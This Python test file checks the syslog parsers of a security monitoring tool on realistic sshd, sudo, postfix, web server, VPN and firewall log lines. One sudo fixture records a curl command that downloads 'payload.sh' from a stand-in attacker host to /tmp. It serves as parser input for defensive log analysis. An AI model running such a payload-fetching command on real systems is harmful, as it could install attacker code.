"""The syslog parsers on real-shaped lines: RFC 3164/5424 text, rsyslog's JSON (docs/inputs.md), the dedicated
program parsers (sshd, sudo, postfix, nginx/apache access, OpenVPN, WireGuard, iptables/nftables) and the
generic extractor, which keeps only canonical values (no substring of a word is taken for an indicator)."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest

from minisoc.correlator.malformed import MalformedLine
from minisoc.correlator.syslog.extract import extract, host_name
from minisoc.correlator.syslog.record import REASON_NOT_SYSLOG, SyslogParser
from minisoc.correlator.syslog.text import parse_text_line

NOW = datetime(2026, 12, 5, 7, 0, tzinfo=UTC)


def fields_of(line: str | bytes) -> dict[str, object]:
    raw = line.encode() if isinstance(line, str) else line
    return SyslogParser("/var/log/test", now=NOW).parse(raw, 0).fields


def test_rsyslog_json_record_as_the_receiver_writes_it() -> None:
    record = {"minisoc_input": "syslog", "@timestamp": "2026-12-04T21:15:53.123+00:00",
              "received": "2026-12-04T21:15:53.200+00:00", "host": "gw1", "from_ip": "192.0.2.7",
              "program": "sshd", "pid": "812", "msgid": "-", "facility": "auth", "severity": "info",
              "sd": "-",
              "message": "Failed password for root from 203.0.113.9 port 4711 ssh2", "input": "imudp",
              "protocol": "0"}
    parsed = SyslogParser("/logs/syslog/syslog-2026-12-04.json").parse(json.dumps(record).encode(), 10)
    assert parsed.log_type == "syslog" and parsed.offset == 10
    assert parsed.ts == pytest.approx(datetime(2026, 12, 4, 21, 15, 53, 123000, tzinfo=UTC).timestamp())
    fields = parsed.fields
    assert fields["log.syslog.hostname"] == "gw1" and fields["log.syslog.appname"] == "sshd"
    assert fields["log.syslog.facility.name"] == "auth" and fields["observer.ip"] == "192.0.2.7"
    assert "log.syslog.msgid" not in fields and "log.syslog.structured_data" not in fields  # `-`: absent
    assert (fields["source.ip"], fields["source.port"], fields["user.name"]) == ("203.0.113.9", 4711, "root")
    assert fields["event.outcome"] == "failure"


def test_rfc5424_with_structured_data_and_bom() -> None:
    fields = fields_of('<165>1 2026-12-04T22:14:15.003Z mymachine.example.com evntslog - ID47 '
                       '[exampleSDID@32473 iut="3" eventSource="Application" eventID="1011"] '
                       '\ufeffAn application event from 198.51.100.8')
    assert fields["log.syslog.version"] == "1" and fields["log.syslog.msgid"] == "ID47"
    assert fields["log.syslog.facility.name"] == "local4" and fields["log.syslog.severity.name"] == "notice"
    assert fields["log.syslog.structured_data"].startswith("[exampleSDID@32473")  # type: ignore[union-attr]
    assert fields["message"] == "An application event from 198.51.100.8"
    assert fields["related.ip"] == ["198.51.100.8"]


def test_rfc3164_network_and_file_forms() -> None:
    network = parse_text_line("<34>Oct 11 22:14:15 mymachine su: 'su root' failed for lonvick", NOW)
    assert network is not None and network["facility"] == "auth" and network["severity"] == "crit"
    assert network["@timestamp"] == "2026-10-11T22:14:15+00:00" and network["program"] == "su"
    debian13 = parse_text_line("2026-12-04T21:15:53.123456+00:00 gw1 sshd-session[812]: Accepted publickey "
                               "for "
                               "alice from 2001:db8::10 port 50122 ssh2: ED25519 SHA256:abc", NOW)
    assert debian13 is not None and debian13["program"] == "sshd-session" and debian13["pid"] == "812"
    january = parse_text_line("Dec 31 23:59:59 gw1 cron[1]: x", datetime(2027, 1, 1, tzinfo=UTC))
    assert january is not None and january["@timestamp"].startswith("2026-12-31")  # last year's December


@pytest.mark.parametrize(("message", "expected"), [
    ("Failed password for invalid user admin from 203.0.113.9 port 52344 ssh2",
     {"source.ip": "203.0.113.9", "source.port": 52344, "user.name": "admin", "event.outcome": "failure"}),
    ("Accepted publickey for alice from 2001:DB8::10 port 50122 ssh2: ED25519 SHA256:x",
     {"source.ip": "2001:db8::10", "user.name": "alice", "event.outcome": "success"}),
    ("Invalid user oracle from 198.51.100.23 port 40112",
     {"source.ip": "198.51.100.23", "user.name": "oracle"}),
    ("Connection closed by authenticating user root 203.0.113.9 port 4711 [preauth]",
     {"source.ip": "203.0.113.9", "source.port": 4711, "user.name": "root"}),
    ("Received disconnect from 203.0.113.9 port 4711:11: Bye Bye [preauth]", {"source.ip": "203.0.113.9"}),
    ("Connection from 203.0.113.9 port 4711 on 192.0.2.10 port 22 rdomain \"\"",
     {"source.ip": "203.0.113.9", "destination.ip": "192.0.2.10", "destination.port": 22}),
])
def test_sshd(message: str, expected: dict[str, object]) -> None:
    fields = fields_of(f"Dec  4 21:15:53 gw1 sshd[812]: {message}")
    assert {key: fields.get(key) for key in expected} == expected


def test_sudo_command_and_failure() -> None:
    ran = fields_of("Dec  4 21:16:01 gw1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; "
                    "COMMAND=/usr/bin/curl -o /tmp/x http://evil.example.com/payload.sh")
    assert (ran["user.name"], ran["user.target.name"]) == ("alice", "root")
    assert ran["related.url"] == ["http://evil.example.com/payload.sh"]
    assert ran["related.hosts"] == ["evil.example.com"]
    failed = fields_of("Dec  4 21:16:01 gw1 sudo:      bob : 3 incorrect password attempts ; TTY=pts/1 ; "
                       "PWD=/home/bob ; USER=root ; COMMAND=/bin/bash")
    assert failed["event.outcome"] == "failure" and failed["event.reason"] == "3 incorrect password attempts"


def test_postfix_client_sender_recipient_relay() -> None:
    client = fields_of("Dec  4 21:16:00 mx postfix/smtpd[99]: 4F2A31C0: client=mail.example.org[192.0.2.25]")
    assert (client["source.ip"], client["source.domain"]) == ("192.0.2.25", "mail.example.org")
    sender = fields_of("Dec  4 21:16:00 mx postfix/qmgr[98]: 4F2A31C0: from=<Bad@Phish.Example.NET>, "
                       "size=2345, "
                       "nrcpt=1 (queue active)")
    assert sender["email.from.address"] == "Bad@Phish.Example.NET" and "related.email" not in sender
    relay = fields_of("Dec  4 21:16:02 mx postfix/smtp[100]: 4F2A31C0: to=<alice@example.org>, "
                      "relay=mx.example.org[192.0.2.30]:25, delay=0.5, delays=0.1/0/0.2/0.2, dsn=2.0.0, "
                      "status=sent (250 2.0.0 Ok: queued as 5B1C2D)")
    assert relay["email.to.address"] == ["alice@example.org"]
    assert (relay["destination.ip"], relay["destination.port"]) == ("192.0.2.30", 25)
    reject = fields_of("Dec  4 21:16:02 mx postfix/smtpd[99]: NOQUEUE: reject: RCPT from "
                       "unknown[203.0.113.50]: "
                       "554 5.7.1 <x@example.org>: Relay access denied; from=<spam@spammer.example.net> "
                       "to=<x@example.org> proto=ESMTP helo=<spammer.example.net>")
    assert reject["source.ip"] == "203.0.113.50" and "source.domain" not in reject  # `unknown`: no name
    assert reject["email.from.address"] == "spam@spammer.example.net"


def test_nginx_combined_and_apache_vhost_combined() -> None:
    nginx = fields_of('203.0.113.9 - - [04/Dec/2026:21:15:53 +0000] "GET /wp-login.php HTTP/1.1" 404 153 "-" '
                      '"Mozilla/5.0 (compatible; evilbot/1.0; +http://evil.example.com/bot)"')
    assert nginx["source.ip"] == "203.0.113.9" and nginx["url.original"] == "/wp-login.php"
    assert nginx["http.response.status_code"] == 404 and nginx["@timestamp"] == "2026-12-04T21:15:53+00:00"
    assert nginx["related.url"] == ["http://evil.example.com/bot"]  # from the user agent, canonical
    vhost = fields_of('www.example.org:443 203.0.113.9 - bob [04/Dec/2026:21:15:53 +0100] '
                      '"GET /phish/login?a=1 '
                      'HTTP/1.1" 200 512 "http://ref.example.net/" "curl/8.5.0"')
    assert vhost["url.full"] == "https://www.example.org/phish/login?a=1" and vhost["user.name"] == "bob"
    assert vhost["http.request.referrer"] == "http://ref.example.net/"
    assert vhost["user_agent.original"] == "curl/8.5.0"
    via_syslog = fields_of('Dec  4 21:15:53 web1 nginx: 192.0.2.99 - - [04/Dec/2026:21:15:53 +0000] "GET '
                           'http://proxy.example.com/x HTTP/1.1" 200 12 "-" "curl/8.0"')
    assert via_syslog["source.ip"] == "192.0.2.99" and via_syslog["url.full"] == "http://proxy.example.com/x"


def test_openvpn_wireguard_netfilter() -> None:
    vpn = fields_of("Dec  4 21:16:03 vpn ovpn-server[555]: 203.0.113.5:51234 [alice] Peer Connection "
                    "Initiated "
                    "with [AF_INET]203.0.113.5:51234")
    assert (vpn["source.ip"], vpn["source.port"], vpn["user.name"]) == ("203.0.113.5", 51234, "alice")
    wg = fields_of("Dec  4 21:16:04 gw1 kernel: [12345.678901] wireguard: wg0: Receiving handshake "
                   "initiation "
                   "from peer 3 (198.51.100.7:36011)")
    assert (wg["source.ip"], wg["source.port"]) == ("198.51.100.7", 36011)
    assert wg["observer.ingress.interface.name"] == "wg0"
    ufw = fields_of("Dec  4 21:16:05 gw1 kernel: [UFW BLOCK] IN=eth0 OUT= "
                    "MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=203.0.113.9 DST=192.0.2.10 LEN=60 "
                    "TOS=0x00 PREC=0x00 TTL=50 ID=54321 DF PROTO=TCP "
                    "SPT=4711 DPT=22 WINDOW=64240 RES=0x00 SYN URGP=0")
    assert (ufw["source.ip"], ufw["destination.ip"]) == ("203.0.113.9", "192.0.2.10")
    assert ufw["destination.port"] == 22
    assert ufw["network.transport"] == "tcp" and ufw["rule.name"] == "UFW BLOCK" and "related.ip" not in ufw
    nft = fields_of("Dec  4 21:16:06 gw1 kernel: nft-drop: IN=eth0 OUT= SRC=2001:db8:0:0::9 DST=2001:db8::10 "
                    "LEN=80 TC=0 HOPLIMIT=64 FLOWLBL=0 PROTO=UDP SPT=5353 DPT=53 LEN=40")
    assert (nft["source.ip"], nft["destination.port"], nft["network.transport"]) == ("2001:db8::9", 53, "udp")


def test_the_generic_extractor_keeps_only_canonical_whole_values() -> None:
    found = extract("resolved Evil.Example.COM. for x1.2.3.45 and 1.2.3.4, via fe80::1%eth0 at 10:11:12 "
                    "(mac 00:11:22:33:44:55) see https://Evil.Example.com:8443/a?b=c; "
                    "mail Bob@Phish.Example.net "
                    "sshd.conf v1.2.3 evil.example.com.attacker.invalidtld 999.1.1.1")
    assert sorted(found.addresses) == ["1.2.3.4", "fe80::1"]
    assert found.names == ["evil.example.com"]  # the URL's host; the name in the text is the same name
    assert found.urls == ["https://Evil.Example.com:8443/a?b=c"]
    assert found.emails == ["bob@phish.example.net"]
    assert host_name("sshd.conf") is None and host_name("a.b.xn--p1ai") == "a.b.xn--p1ai"


def test_a_line_that_is_no_syslog_is_refused_with_its_reason() -> None:
    parser = SyslogParser(None, now=NOW)
    with pytest.raises(MalformedLine) as refused:
        parser.parse(b"\x00\x01 garbage that no syslog writes", 0)
    assert refused.value.reason == REASON_NOT_SYSLOG
    with pytest.raises(MalformedLine) as not_json:
        parser.parse(b'{"minisoc_input": "syslog", "message": ', 0)
    assert not_json.value.reason == "invalid_json"
